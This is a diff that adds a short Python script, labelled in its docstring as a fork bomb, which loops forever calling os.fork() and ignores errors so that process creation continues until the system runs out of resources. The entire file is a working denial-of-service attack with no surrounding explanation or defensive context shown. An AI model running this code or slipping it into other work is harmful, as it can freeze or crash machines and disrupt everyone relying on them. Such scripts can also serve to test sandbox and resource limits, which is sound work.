@@ -1,0 +1,9 @@
+"""A fork bomb."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
